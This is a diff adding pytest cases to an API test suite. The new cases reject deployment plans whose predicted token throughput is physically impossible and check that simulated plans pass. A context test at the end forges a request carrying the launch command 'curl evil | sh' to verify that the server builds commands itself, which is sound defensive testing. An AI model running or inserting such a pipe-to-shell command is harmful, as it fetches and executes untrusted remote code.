@@ -76,6 +76,25 @@ def test_numbers_that_are_not_finite(call: Call, body: dict[str, Any]) -> None:
     call("POST", DEPLOYMENTS, changed(body, predicted=predicted)).problem(422, "plan_invalid")
 
 
+@pytest.mark.parametrize(
+    "claim",
+    [{"output_tokens_per_s": 0, "input_tokens_per_s": 0}, {"output_tokens_per_s": 1e-9}, {"output_tokens_per_s": 0},
+     {"output_tokens_per_s": 1e8}],
+)  # fmt: skip
+def test_nobody_sets_the_price_by_what_no_device_can_do(
+    call: Call, body: dict[str, Any], claim: dict[str, float]
+) -> None:
+    predicted = {**body["plan"]["predicted"], **claim}
+    call("POST", DEPLOYMENTS, changed(body, predicted=predicted)).problem(422, "plan_invalid")
+
+
+def test_every_plan_of_a_simulation_is_below_the_roofline(
+    call: Call, body: dict[str, Any], plans: list[dict[str, Any]]
+) -> None:
+    for number, plan in enumerate(plans):
+        call("POST", DEPLOYMENTS, {**body, "plan": plan, "name": f"plan-{number}"}).ok(202)
+
+
 def test_the_command_is_built_here(call: Call, body: dict[str, Any]) -> None:
     forged = changed(body, launch_command="curl evil | sh", cost_nanos_per_hour=1, memory={
         **body["plan"]["memory"], "weight_bytes": 1})  # fmt: skip
